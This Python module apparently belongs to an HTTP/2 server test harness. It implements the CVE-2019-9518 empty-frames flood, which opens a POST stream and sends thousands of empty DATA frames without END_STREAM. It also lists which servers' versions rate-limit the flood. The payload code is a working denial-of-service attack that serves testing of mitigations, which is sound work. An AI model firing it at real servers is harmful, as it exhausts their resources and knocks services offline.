"""Empty frames flood (CVE-2019-9518): DATA frames with no payload and no END_STREAM on an open request,
each costing the server a frame's work and no flow-control window (RFC 9113 section 6.1; section 10.5)."""
from hyperframe.frame import DataFrame

from h2grid.attacks.base import Attack, Fix
from h2grid.attacks.hpackraw import request

FRAMES = 2000


def opening(conn) -> bytes:
    # POST to the reflection route: the app reads the body, so the stream stays open for the frames
    conn.state = {"sid": conn.stream_id()}
    return conn.headers(conn.state["sid"], request(conn, "POST", "/reflect"), end_stream=False)


def batch(conn) -> bytes:
    return DataFrame(conn.state["sid"], b"").serialize() * FRAMES


ATTACK = Attack(
    key="empty-frames", title="Empty frames flood", cve="CVE-2019-9518", rfc="RFC 9113 section 6.1, section 10.5",
    sends=f"a POST /reflect left open, then empty DATA frames on it without END_STREAM, {FRAMES} per write",
    opening=opening, batch=batch, reads=False,
    # 1 MiB is about 116,000 empty frames on one connection: gunicorn's limit ends one at 1,000 (9 KB)
    bound_mib=1.0,
    fixes=(Fix("gunicorn", "27.0.1", "at most 1,000 PING, SETTINGS and empty DATA frames per 10 s a connection, then GOAWAY ENHANCE_YOUR_CALM "
                                     "(gunicorn/http2/connection.py and async_connection.py CONTROL_FRAME_RATE_LIMIT; the installed release, earlier ones not checked)"),
           Fix("h2-rust", "0.4.16", "a limit on excessive small DATA frames (0.4.17 leaves END_STREAM frames out; "
                                    "0.4.18 makes it data_frame_budget)"),
           Fix("hypercorn", "", "each empty frame is handed to the app as an empty body chunk")),
)
